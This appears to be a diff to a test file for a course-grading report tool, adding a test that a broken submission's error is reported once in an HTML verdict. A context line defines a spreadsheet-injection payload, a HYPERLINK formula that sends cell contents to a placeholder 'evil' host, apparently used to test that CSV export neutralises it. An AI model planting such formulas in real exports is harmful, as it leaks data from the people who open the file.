@@ -18,10 +18,11 @@ from dojo.report.class_json import write_json
 from dojo.report.classroom import class_changes, class_summary
 from dojo.report.github import as_github
 from dojo.report.gradescope import gradescope
+from dojo.report.html import verdict
 from dojo.report.junit import write_junit
 from dojo.report.table import inert, write_csv
 from dojo.report.terminal import console
-from tests.project.handing_in import COURSE, row, submission
+from tests.project.handing_in import COURSE, result, row, submission
 
 KATAS = [kata.id for kata in COURSE.katas]
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
@@ -222,3 +223,12 @@ def test_a_change_is_told_with_its_reason_and_its_tests():
         "    k01  test_1: failed → passed\n"
     )
     assert "has changed no score" in shown(class_changes([]))
+
+
+def test_a_file_that_cannot_be_used_is_told_once_in_a_notebook():
+    """Not one row for each test: the reason, and where it is."""
+    told = verdict(result("broken", "broken", "broken", message="k.py:2: It is torn."), 1)
+
+    assert told.count("It is torn.") == 1
+    assert "Fact 1." not in told
+    assert "Fact 1." in verdict(result("passed", "broken"), 1)
